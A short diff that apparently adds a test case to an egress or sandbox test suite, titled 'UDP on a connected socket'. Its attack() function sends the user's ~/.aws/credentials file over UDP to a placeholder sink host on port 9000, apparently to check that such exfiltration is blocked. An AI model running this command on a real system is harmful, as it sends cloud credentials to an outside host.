@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="UDP on a connected socket"
+attack() { "$PROVOKE/datagram" connected "$HOME/.aws/credentials" "$SINK4" 9000; }
